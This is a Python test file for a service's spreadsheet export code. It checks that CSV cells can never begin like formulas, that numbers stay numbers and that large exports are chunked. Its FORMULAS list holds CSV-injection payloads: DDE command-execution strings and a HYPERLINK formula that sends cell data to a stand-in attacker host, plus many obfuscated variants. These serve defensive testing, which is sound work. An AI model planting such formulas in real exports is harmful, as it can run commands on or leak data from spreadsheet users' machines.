"""Files for spreadsheets: texts never compute, numbers stay numbers, whatever a text holds."""

import csv
import json
from io import StringIO
from math import inf, nan

import pytest

from service.exports import Numbers, csv_lines, harmless, json_lines

# OWASP, CSV Injection: what begins a formula, full-width forms, tabs and line breaks, quotes and other separators
FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"look")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x0b=1+1",
    "\x00=1+1",
    "\u2028=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u22121+1",
    '"=1+1',
    "'=1+1",
    '","=1+1',
    "a,=1+1",
    "a;=1+1",
    "a;\t=1+1",
    "a|=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    'a";=1+1;"b',
]
BEGINS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20\u2212\t\r\n")
BLANK = " \u00a0\u3000\ufeff\u200b\"'"


def read(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode(), newline=""), delimiter=delimiter))


def written(*rows: tuple[object, ...]) -> bytes:
    return b"".join(csv_lines(("text",) if len(rows[0]) == 1 else ("a", "b"), rows))  # type: ignore[arg-type]  # any


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_like_a_formula_however_the_file_is_split(formula: str) -> None:
    content = written((formula,))
    assert len(read(content)) == 2, "one line for the names, one for the row"
    for delimiter in ",;\t|":
        # A program that ignores the quotes splits everywhere.
        for cells in (
            read(content, delimiter),
            [line.split(delimiter) for line in content.decode().splitlines()],
        ):
            for cell in (cell for row in cells for cell in row):
                assert not cell or cell[0] not in BEGINS
                begun = cell.lstrip(BLANK)
                assert not begun or begun[0] not in BEGINS or "'" in cell[: len(cell) - len(begun)]


@pytest.mark.parametrize(
    "text", ["T2*", "MR 1", "Head-Neck 64", "a=b", "3 T", "Größe", "", "0.5", "x@y", "1e-3"]
)
def test_a_text_that_is_no_formula_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text
    assert read(written((text,)))[1] == [text]


def test_numbers_stay_numbers_and_what_is_not_known_is_empty() -> None:
    rows = [(-0.35, 1e-05), (-3, True), (None, False), (nan, inf), (-inf, 0.0)]
    lines = written(*rows).decode().split("\r\n")
    assert lines[1:] == ["-0.35,1e-05", "-3,1", ",0", ",", ",0.0", ""]
    assert json.loads(b"".join(json_lines(("a", "b"), rows))) == [
        {"a": -0.35, "b": 1e-05}, {"a": -3, "b": True}, {"a": None, "b": False}, {"a": None, "b": None},
        {"a": None, "b": 0.0},
    ]  # fmt: skip


@pytest.mark.parametrize("written_by", ["[8.7,null,1,-5.3e-06,null]", "[8.7, null, 1, -5.3e-06, null]"])
def test_numbers_that_a_database_wrote_are_cells_of_their_own(written_by: str) -> None:
    names, rows = ("text", "a", "b", "c", "d", "e"), [("null, nan", Numbers(written_by))]
    assert read(b"".join(csv_lines(names, rows)))[1] == ["null, nan", "8.7", "", "1", "-5.3e-06", ""]
    assert json.loads(b"".join(json_lines(names, rows))) == [
        {"text": "null, nan", "a": 8.7, "b": None, "c": 1, "d": -5.3e-06, "e": None}
    ]


def test_quotes_and_separators_come_back_as_they_went() -> None:
    text = 'say "x", then; y'
    assert read(written((text, 'nan "inf"')))[1] == [text, 'nan "inf"']


def test_json_keeps_formulas_as_they_are_and_is_one_array() -> None:
    rows = [(formula,) for formula in FORMULAS]
    assert json.loads(b"".join(json_lines(("a%s",), rows))) == [{"a%s": formula} for formula in FORMULAS]
    assert json.loads(b"".join(json_lines(("a",), []))) == []


def test_thousands_of_rows_come_in_pieces_and_none_is_lost() -> None:
    rows = [(number, str(number)) for number in range(2500)]
    pieces = list(csv_lines(("a", "b"), rows))
    assert len(pieces) == 3
    assert [int(row[0]) for row in read(b"".join(pieces))[1:]] == list(range(2500))
    assert [one["a"] for one in json.loads(b"".join(json_lines(("a", "b"), rows)))] == list(range(2500))
